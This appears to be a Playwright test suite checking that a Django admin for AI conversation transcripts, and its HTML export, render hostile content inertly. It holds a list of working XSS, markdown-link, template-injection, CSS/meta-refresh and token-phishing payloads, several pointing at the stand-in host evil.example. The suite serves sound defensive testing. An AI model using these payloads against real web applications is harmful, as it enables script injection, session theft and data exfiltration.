import json

import pytest
from playwright.sync_api import Page, expect

from conversations.models import Conversation
from conversations.schema.items import validate_items
from conversations.transfer.exporter import Export
from tests.browser.list_page import title_link
from tests.browser.pages import WITHOUT_JAVASCRIPT, follow
from tests.browser.transcripts import store_item
from tests.browser.watch import Watch

OWNED = "document.title='owned'"
ATTACKS = [
    f"<script>{OWNED}</script>",
    "</pre></code></textarea></title></style></details><script src=https://evil.example/x.js></script>",
    f'<img src=https://evil.example/pixel.png onerror="{OWNED}">',
    f"<svg onload=\"{OWNED}\"><use href='https://evil.example/a.svg#x'/></svg>",
    f"<svg><script>{OWNED}</script><image href='https://evil.example/i.png'/></svg>",
    '"><iframe src=//evil.example></iframe>',
    f"' onmouseover='{OWNED}' autofocus onfocus='{OWNED}",
    f"javascript:{OWNED}",
    f"data:text/html,<script>{OWNED}</script>",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
    "//evil.example/pixel.png",
    "https:\\\\evil.example/pixel.png",
    "![image](https://evil.example/pixel.png) [link](javascript:alert(1)) [link](//evil.example)",
    "![image][r]\n\n[r]: https://evil.example/pixel.png 'x\" onmouseover=\"alert(1)'",
    "[link](https://evil.example/'onmouseover='alert(1)) <https://evil.example/\"onclick=alert(1)>",
    "[link](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)) <javascript:alert(1)>",
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "|<img src=x onerror=alert(1)>|\n|:-:|\n|</table><script>alert(1)</script>|",
    "{{ constructor.constructor('document.title=1')() }} {% load x %} ${7*7} <!--#exec cmd=ls-->",
    "<link rel=stylesheet href=https://evil.example/a.css><style>@import 'https://evil.example/b.css'</style>",
    "<p style='background:url(https://evil.example/c.png);position:fixed;inset:0'>x</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form action=https://evil.example><input name=csrfmiddlewaretoken><button>Save</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\u202egnp.exe\u2066 \u0007\u001b[31m\u001b]0;title\u0007 \ufeff\u200b\u2028\u2029",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u02bconmouseover\u02bc",
]
NOISE = "\n\n".join(ATTACKS)


@pytest.fixture
def hostile(live_server, alice) -> Conversation:
    annotation = {"type": "url_citation", "url": ATTACKS[7], "title": NOISE, "start_index": 0, "end_index": 1}
    sources = [{"type": "url", "url": attack} for attack in ATTACKS]
    operation = {"type": "update_file", "path": NOISE, "diff": NOISE}
    items = [
        {"role": "user", "content": [{"type": "input_text", "text": attack} for attack in ATTACKS]},
        {"role": "user", "content": [{"type": "input_image", "image_url": attack} for attack in ATTACKS]},
        {"role": "user", "content": [{"type": "input_image", "image_url": "https://evil.example/pixel.png"}]},
        {"role": "user", "content": [{"type": "input_file", "filename": NOISE, "file_url": ATTACKS[7]}]},
        {"role": "assistant", "content": [{"type": "output_text", "text": NOISE, "annotations": [annotation]}]},
        {"type": "function_call", "call_id": "c", "name": "f", "arguments": json.dumps({"a": NOISE})},
        {"type": "function_call", "call_id": "d", "name": "f", "arguments": NOISE},
        {"type": "function_call_output", "call_id": "c", "output": NOISE},
        {"type": "custom_tool_call", "call_id": "e", "name": ATTACKS[0], "input": NOISE},
        {"type": "apply_patch_call", "call_id": "g", "status": "completed", "operation": operation},
        {
            "type": "web_search_call",
            "id": "ws_1",
            "status": "completed",
            "action": {"type": "search", "sources": sources},
        },
        {"type": "image_generation_call", "id": "ig_1", "status": "completed", "result": ATTACKS[9]},
        {"type": "reasoning", "id": "rs_1", "summary": [{"type": "summary_text", "text": NOISE}]},
    ]
    pairs = {attack[:64]: attack for attack in ATTACKS[:16]}
    conversation = Conversation.objects.create_with_items(owner=alice, metadata=pairs, items=validate_items(items))
    store_item(conversation, {ATTACKS[2]: ATTACKS}, item_type=ATTACKS[0], item_id="' onclick='alert(1)")
    store_item(
        conversation, {"type": "message", "role": ATTACKS[0], "content": NOISE}, item_type="message", item_id="x_2"
    )
    return conversation


TOUCH = """elements => elements.forEach(element => {
    element.focus();
    element.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
})"""
ADDRESSES = "links => links.map(a => [a.getAttribute('href'), a.rel, a.target])"


def test_hostile_content_is_neither_executed_nor_fetched(admin_page: Page, hostile, live_server):
    watch = Watch(admin_page)
    titles = []
    admin_page.goto("/admin/conversations/conversation/")
    titles.append(admin_page.title())
    admin_page.goto("/admin/conversations/conversation/?metadata_key=%3Cscript%3E&metadata_value=%22%3E%3Cscript%3E")
    titles.append(admin_page.title())
    admin_page.goto("/admin/conversations/conversation/")
    follow(title_link(admin_page, hostile))
    for address in (
        admin_page.url,
        f"{admin_page.url.partition('?')[0]}?view=raw",
        f"{admin_page.url.partition('?')[0]}?view=rendered",
    ):
        admin_page.goto(address)
        expect(admin_page.get_by_role("article")).to_have_count(14)
        admin_page.get_by_role("button", name="Expand all").click()
        admin_page.locator("article, #transcript a, textarea").evaluate_all(TOUCH)
        titles.append(admin_page.title())
    inside = "#transcript :is(script, svg, iframe, link, style, meta, base, object, form, input, math, [style])"
    search = "#transcript > .conversations-find"
    assert admin_page.locator(f"{inside}:not({search}, {search} > *)").count() == 0
    assert admin_page.locator("#transcript img").count() == 0
    assert admin_page.locator("#transcript").evaluate("e => e.innerText.includes('evil.example/pixel.png')")
    for address, rel, target in admin_page.locator("#transcript a").evaluate_all(ADDRESSES):
        if not address.startswith(("?", "#", "../items/")):
            assert address.startswith(("https://", "mailto:")), address
            assert (rel, target) == ("noopener noreferrer nofollow", "_blank")
    admin_page.locator(".deletelink").click()
    expect(admin_page.get_by_role("button", name="Delete")).to_be_visible()
    titles.append(admin_page.title())
    assert all(title.endswith("| Conversations") for title in titles)
    assert watch.problems == []
    assert watch.foreign_requests(live_server.url) == []


def test_remote_image_shows_its_host_before_it_is_opened(admin_page: Page, alice, live_server):
    content = [{"type": "input_image", "image_url": "https://images.example/a.png"}]
    items = validate_items([{"role": "user", "content": content}])
    conversation = Conversation.objects.create_with_items(owner=alice, items=items)

    watch = Watch(admin_page)
    admin_page.goto(f"/admin/conversations/conversation/{conversation.pk}/change/")
    link = admin_page.get_by_role("link", name="https://images.example/a.png")
    expect(link).to_be_hidden()
    admin_page.get_by_text("Image at images.example").press("Enter")
    expect(link).to_be_visible()
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert watch.problems == []
    assert watch.foreign_requests(live_server.url) == []


@WITHOUT_JAVASCRIPT
def test_pages_contain_no_inline_script_or_style(admin_page: Page, hostile):
    found = []
    for path in ("", f"{hostile.pk.replace('_', '_5F')}/change/", f"{hostile.pk.replace('_', '_5F')}/delete/"):
        admin_page.goto(f"/admin/conversations/conversation/{path}")
        found.append(admin_page.locator("script:not([src]):not([type='application/json']), style, [style]").count())
        found.append(admin_page.locator("[onclick], [onload], [onsubmit], [onchange]").count())
    assert set(found) == {0}


def test_hostile_content_does_nothing_in_an_exported_page(page: Page, hostile, tmp_path):
    file = tmp_path / "hostile.html"
    file.write_bytes(b"".join(Export(Conversation.objects.all(), format="html")))
    watch = Watch(page)
    page.goto(file.as_uri())
    expect(page.locator("section")).to_have_count(hostile.items.count())
    page.locator("*").evaluate_all(TOUCH)
    assert page.title() == "Conversations"
    assert watch.problems == []
    assert watch.foreign_requests(file.as_uri()) == []
